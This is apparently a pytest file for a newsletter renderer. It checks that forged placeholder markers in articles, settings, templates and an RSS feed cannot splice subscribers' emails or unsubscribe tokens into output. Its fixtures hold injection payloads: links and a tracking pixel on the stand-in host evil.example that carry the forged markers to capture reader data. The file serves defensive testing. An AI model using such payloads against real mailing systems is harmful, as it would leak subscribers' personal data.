"""The personal-field splice cannot be forged: no content, variable or setting becomes a
reader's address or unsubscribe link, and no marker-like text breaks a render."""

from __future__ import annotations

import re
from email import message_from_bytes, policy
from pathlib import Path

import pytest

from newsletter.errors import TemplateError
from newsletter.render import PersonalFields, Renderer
from newsletter.settings import NewsletterSection
from tests.conftest import ISSUE_DATE, REPO, Project
from tests.test_render import ADA, HEADLINE, ISSUE, LEAD, NEWSLETTER

# The old fixed markers (one with an index no render has), and the new shape with a guess.
MARKERS = ["NLSLOT0X", "NLSLOT1X", "NLSLOT3X", "NLSLOT99X", "NL" + "A" * 16 + "S0X",
           "NLABCDEFGHIJKLMNOPS1X"]
FORGED = " ".join(MARKERS)
LEFTOVER = re.compile(r"NL[A-Z2-7]{16}S\d+X")
EVE = PersonalFields(email="eve.reader@example.net", name="Eve Reader",
                     unsubscribe_url="https://example.com/u/SECRET-TOKEN")


def _hostile(article, marker: str):
    return article.model_copy(update={
        "title": f"Title {FORGED}", "summary": f"Summary {FORGED}", "body": f"Body {FORGED}",
        "body_html": f'<p>Body {FORGED}</p><img src="https://evil.example/{marker}.png" '
                     f'alt="{marker}"><a href="https://evil.example/?u={marker}">x</a>',
        "author": f"Author {marker}", "section": f"S {marker}", "image_alt": FORGED,
        "image": f"https://evil.example/lead-{marker}.jpg",
        "url": f"https://evil.example/story?who={marker}"})


def _personal_data(text: str) -> int:
    return sum(text.count(value) for value in ("eve.reader", "Eve", "SECRET-TOKEN"))


@pytest.mark.parametrize("marker", MARKERS)
def test_marker_text_in_content_list_title_and_settings_is_never_spliced(marker: str) -> None:
    newsletter = NewsletterSection(sender=f"The Brief {marker} <brief@example.com>",
                                   title=f"Brief {marker}", postal_address=f"1 Quay {FORGED}")
    hostile = ISSUE.model_copy(update={
        "lead": _hostile(LEAD, marker), "headlines": (_hostile(HEADLINE, marker),),
        "list_title": f"The Brief {FORGED}"})
    renderer = Renderer(REPO / "templates", newsletter)
    rendered = renderer.render(hostile)  # an unknown index must not crash the send
    clean = Renderer(REPO / "templates", NEWSLETTER).render(ISSUE)
    # Exactly the template's own personal fields, nothing more.
    assert rendered.html.slots == clean.html.slots
    assert rendered.text.slots == clean.text.slots
    html, text = rendered.html.fill(EVE), rendered.text.fill(EVE)
    assert _personal_data(html) == _personal_data(clean.html.fill(EVE))
    assert _personal_data(text) == _personal_data(clean.text.fill(EVE))
    for part in (html, text):
        assert not re.search(r"evil\.example/\S*(eve|Eve|SECRET|https)", part)
        assert FORGED in part  # the text is kept as written
    assert f'src="https://evil.example/{marker}.png"' in html
    assert f'href="https://evil.example/?u={marker}"' in html
    page = renderer.render_web(hostile)
    assert f'src="https://evil.example/{marker}.png"' in page and FORGED in page
    assert set(LEFTOVER.findall(html + text + page)) <= set(MARKERS)  # the forged ones only


def test_a_template_variable_holding_a_marker_is_printed_as_text(tmp_path: Path) -> None:
    (tmp_path / "digest.html").write_text(
        '{% set fake = "NLSLOT0X" %}<p><a href="https://evil.example/{{ fake }}">'
        "{{ fake }}</a> {{ subscriber.email }} {{ \"NLSLOT5X\" }}</p>")
    (tmp_path / "digest.txt").write_text('{{ "NLSLOT1X" }} {{ subscriber.unsubscribe_url }}')
    rendered = Renderer(tmp_path, NEWSLETTER).render(ISSUE)
    assert rendered.html.fill(ADA).endswith(
        '<a href="https://evil.example/NLSLOT0X">NLSLOT0X</a> ada@example.com NLSLOT5X</p>'
        "</body></html>")
    assert rendered.text.fill(ADA) == f"NLSLOT1X {ADA.unsubscribe_url}\n"


def test_renders_are_deterministic_and_carry_no_nonce() -> None:
    renderer = Renderer(REPO / "templates", NEWSLETTER)
    one, two = renderer.render(ISSUE), renderer.render(ISSUE)
    assert one.html == two.html and one.text == two.text
    assert not LEFTOVER.search("".join(one.html.literals + one.text.literals))
    assert renderer.render_web(ISSUE) == renderer.render_web(ISSUE)


@pytest.mark.parametrize("printed", [
    "{{ subscriber.email | lower }}", "{{ (subscriber.unsubscribe_url | string)[:12] }}",
    "{% set e = subscriber.email | string %}{{ e }} and {{ e }}",
    "{{ subscriber.email | replace('N', 'n') }}",
])
def test_a_field_mangled_by_the_template_is_a_clear_error(tmp_path: Path, printed: str) -> None:
    """Never a message with a broken field or a stray sentinel: the template is at fault."""
    (tmp_path / "digest.html").write_text(f"<p>{printed}</p>")
    (tmp_path / "digest.txt").write_text("x")
    with pytest.raises(TemplateError) as caught:
        Renderer(tmp_path, NEWSLETTER).render(ISSUE)
    [problem] = caught.value.problems
    assert str(problem.file).endswith("digest.html") and "subscriber" in problem.what


FEED = """\
<?xml version="1.0" encoding="UTF-8"?>
<rss version="2.0" xmlns:content="http://purl.org/rss/1.0/modules/content/">
  <channel><title>Hostile</title><link>https://evil.example/</link><description>x</description>
    <item>
      <title>Free tickets NLSLOT0X NLSLOT99X</title>
      <link>https://evil.example/free?to=NLSLOT0X</link>
      <guid>https://evil.example/free</guid>
      <pubDate>Tue, 24 Nov 2026 08:45:00 +0000</pubDate>
      <description>Claim them NLSLOT1X NLSLOT2X</description>
      <content:encoded><![CDATA[<p>Claim NLSLOT3X
        <img src="https://evil.example/pixel.png?who=NLSLOT0X&amp;u=NLSLOT1X" alt="NLSLOT2X">
      </p>]]></content:encoded>
    </item>
  </channel>
</rss>
"""


def test_a_feed_entry_with_markers_sends_to_everyone_without_their_data(
        project: Project) -> None:
    (project.root / "hostile.xml").write_text(FEED, encoding="utf-8")
    text = project.settings.read_text()
    project.settings.write_text(text.replace(
        "  max_age_days: 2\n", '  max_age_days: 2\n  feeds: ["hostile.xml"]\n'))
    project.write("config/subscribers.yaml", """\
        lists:
          morning-brief:
            title: The Morning Brief NLSLOT0X
            subscribers:
              - email: ada@example.com
                name: Ada Lovelace
              - zoe@example.org
        """)
    result = project.run("send", "--date", ISSUE_DATE)
    assert result.returncode == 0, result.stderr
    for reader in ("ada@example.com", "zoe@example.org"):
        eml = project.outbox / "mail" / "morning-brief" / ISSUE_DATE / f"{reader}.eml"
        msg = message_from_bytes(eml.read_bytes(), policy=policy.default)
        html = msg.get_body(("html",)).get_content()  # type: ignore[union-attr]
        plain = msg.get_body(("plain",)).get_content()  # type: ignore[union-attr]
        assert "pixel.png?who=NLSLOT0X&amp;u=NLSLOT1X" in html
        assert "Free tickets NLSLOT0X NLSLOT99X" in html and "Claim NLSLOT3X" in plain
        assert not re.search(r"evil\.example/\S*(ada|zoe|unsubscribe|token)", html + plain)
        assert not LEFTOVER.search(html + plain)
